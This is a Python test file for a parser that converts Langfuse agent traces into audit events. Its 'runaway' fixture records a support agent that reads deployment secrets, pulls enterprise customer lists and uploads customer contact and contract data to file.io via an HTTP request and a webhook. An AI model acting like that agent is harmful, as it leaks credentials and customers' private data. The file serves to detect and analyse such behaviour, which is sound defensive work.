"""Langfuse trace exports (trace, list of traces, API pages, NDJSON) -> events."""

from __future__ import annotations

import json

from hypothesis import given, strategies as st

from agent_shapes_support import (
    PROPERTY, TIMES, assert_well_formed, by_source, call_rows, encode, fields, json_values,
    never_raise_properties, parse_bytes, parse_fixture, projection, shaped,
)
from goldens import check_golden

PARSER = "langfuse"


def test_runaway_trace_counts_and_call_tree():
    events, issues = parse_fixture("langfuse", "runaway")
    assert issues == []
    assert by_source(events) == {"agent:prompt": 2, "agent:tool_call": 7}
    # a target only where the arguments name an object by a path, URL or bucket key
    assert call_rows(events) == [
        ("json:/observations/2", 1, None, "get_ticket", None),
        ("json:/observations/4", 2, None, "get_ticket_context", None),
        ("json:/observations/5", 3, 2, "get_customer_list", None),
        ("json:/observations/7", 4, None, "get_secret", None),
        ("json:/observations/8", 5, None, "get_secret", None),
        ("json:/observations/10", 6, None, "http_request", "https://file.io/?expires=1d"),
        ("json:/observations/11", 7, None, "create_webhook", "https://file.io/hooks/9xk2"),
    ]
    assert [(e.step, e.attrs["arguments"]) for e in events
            if e.source == "agent:tool_call" and e.step != 6] == [
        (1, {"ticket_id": 48213}), (2, {"ticket_id": 48213}),
        (3, {"resource": "crm://customers?tier=enterprise", "limit": 500}),
        (4, {"name": "aws/prod-root"}), (5, {"name": "github/support-bot-deploy"}),
        (7, {"name": "ticket-mirror", "url": "https://file.io/hooks/9xk2",
             "events": ["ticket.created", "ticket.updated"]})]
    prompts = [(e.ref.locator, e.actor_id, e.actor_kind, e.attrs["role"]) for e in events
               if e.source == "agent:prompt"]
    assert prompts == [("json:/input", "agent-desk-7", "human", "user"),
                       ("json:/observations/1/input/0", "support-triage", "service-principal",
                        "system")]
    denied = next(e for e in events if e.attrs.get("arguments") == {"name": "aws/prod-root"})
    assert (denied.outcome, denied.attrs["result_text"]) == (
        "failure", "AccessDenied: support-bot may not read aws/prod-root")
    check_golden("agent_shapes/langfuse_runaway.json", projection(events, issues))


def test_token_read_event_whole():
    events, _ = parse_fixture("langfuse", "runaway")
    call = next(e for e in events if e.ref.locator == "json:/observations/8")
    assert fields(call) == {
        "locator": "json:/observations/8", "source": "agent:tool_call",
        "time": "2026-04-02T01:20:14Z", "action": "get_secret", "action_class": "other",
        "actor_id": "support-triage", "actor_kind": "agent",
        "target_id": None, "target_type": None,
        "target_label": None, "outcome": "success", "session": "helpdesk-48213", "step": 5,
        "parent_step": None, "approver": None, "bytes_in": None, "bytes_out": None,
        "attrs": {"arguments": {"name": "github/support-bot-deploy"}, "is_error": False,
                  "model": "claude-3-7-sonnet-20250219",
                  "observation_id": "8d14c0cc2f7fbd52",
                  "result_text": '{"name": "github/support-bot-deploy", "value": '
                                 '"ghp_FAKE7t2QpL9xZr4MvN8bC1dK6wJ3hY5sA0eG"}',
                  "runtime": "langfuse", "seq": 6, "tool": "get_secret",
                  "tool_call_id": "8d14c0cc2f7fbd52",
                  "trace_id": "b5030884991af4c2a2c690f9753f5f73"}}


def test_decorator_capture_of_args_and_kwargs_is_unwrapped():
    events, _ = parse_fixture("langfuse", "runaway")
    upload = next(e for e in events if e.action == "http_request")
    assert upload.attrs["arguments"]["url"] == "https://file.io/?expires=1d"
    assert upload.attrs["arguments"] == {
        "method": "POST", "url": "https://file.io/?expires=1d",
        "body": "email,phone,contract_value\ncfo@northbeam.example,+1-555-0142,480000\n"
                "it@lumen-labs.example,+1-555-0177,265000\n"}
    # the trace records no byte count: none is made up from the body
    assert (upload.bytes_out, upload.attrs["dest_host"]) == (None, "file.io")


def test_benign_api_page():
    events, issues = parse_fixture("langfuse", "benign")
    assert issues == []
    assert [(e.ref.locator, e.source, e.step, e.parent_step) for e in events] == [
        ("json:/data/0/input", "agent:prompt", None, None),
        ("json:/data/0/observations/1/input/0", "agent:prompt", None, None),
        ("json:/data/0/observations/2", "agent:tool_call", 1, None),
        ("json:/data/0/observations/4", "agent:tool_call", 2, None)]
    check_golden("agent_shapes/langfuse_benign.json", projection(events, issues))


def test_corrupt_observation_is_one_issue():
    events, issues = parse_fixture("langfuse", "corrupt")
    assert [(i.locator, i.problem) for i in issues] == [
        ("json:/0/observations/2", "observation has no id or type")]
    assert [e.ref.locator for e in events] == ["json:/0/input", "json:/0/observations/1"]


def observation(obs_id, kind, name, start, parent=None, **extra):
    return {"id": obs_id, "traceId": "tr1", "type": kind, "name": name, "startTime": start,
            "parentObservationId": parent, **extra}


def test_observation_page_and_ndjson_and_id_only_trace_lists():
    page = {"data": [observation("o2", "TOOL", "ls", "2026-01-01T00:00:02Z", "o1",
                                 input={"path": "/tmp"}),
                     observation("o1", "TOOL", "shell", "2026-01-01T00:00:01Z",
                                 input="ls /tmp"),
                     "junk"],
            "meta": {"page": 1}}
    items = parse_bytes(PARSER, json.dumps(page).encode())
    assert [(getattr(i, "source", "issue"), getattr(i, "locator", None) or i.ref.locator,
             getattr(i, "step", None), getattr(i, "parent_step", None)) for i in items] == [
        ("issue", "json:/data/2", None, None),
        ("agent:tool_call", "json:/data/0", 2, 1),
        ("agent:tool_call", "json:/data/1", 1, None)]
    traces = [{"id": "tr1", "name": "bot", "input": {"messages": [
        {"role": "user", "content": "hi"}]}, "observations": ["o1", "o2"]},
              {"id": "tr2", "name": "bot", "input": {"question": "why?"},
               "observations": [observation("o9", "TOOL", "wiki", "2026-01-01T00:00:09Z",
                                            traceId="tr2")]}]
    lines = "\n".join(json.dumps(t) for t in traces).encode()
    items = parse_bytes(PARSER, lines)
    assert [(i.source, i.ref.locator, i.session) for i in items] == [
        ("agent:prompt", "line 1", "tr1"), ("agent:prompt", "line 2", "tr2"),
        ("agent:tool_call", "line 2", "tr2")]


KEYS = ["id", "traceId", "type", "name", "startTime", "input", "output", "observations",
        "parentObservationId", "level", "statusMessage", "metadata", "data", "meta",
        "sessionId", "model", "messages", "role", "content", "args", "kwargs"]
WORDS = ["TOOL", "SPAN", "GENERATION", "AGENT", "EVENT", "ERROR", "user", "system", "o1"]
ANY = json_values(KEYS, WORDS)
OBSERVATION = shaped(ANY, id=st.sampled_from(["o1", "o2", "o3"]),
                     traceId=st.sampled_from(["t1", "t2"]), type=st.sampled_from(WORDS[:5]),
                     name=st.sampled_from(["read_file", ""]), startTime=TIMES,
                     parentObservationId=st.sampled_from(["o1", "o2", "o3"]),
                     input=ANY, output=ANY, level=st.sampled_from(["DEFAULT", "ERROR"]),
                     model=st.text(max_size=4))
TRACE = shaped(ANY, id=st.sampled_from(["t1", "t2"]), sessionId=st.text(max_size=4),
               input=ANY, observations=st.lists(OBSERVATION | ANY, max_size=5))
DOCUMENT = TRACE | st.lists(TRACE | OBSERVATION, max_size=3) | st.fixed_dictionaries(
    {"data": st.lists(TRACE | OBSERVATION, max_size=3)})


test_arbitrary_bytes_never_raise, test_arbitrary_json_never_raises = never_raise_properties(
    PARSER, KEYS, WORDS)


@PROPERTY
@given(DOCUMENT, st.booleans())
def test_shaped_documents_never_raise(document, as_lines):
    assert_well_formed(parse_bytes(PARSER, encode(document, as_lines)))
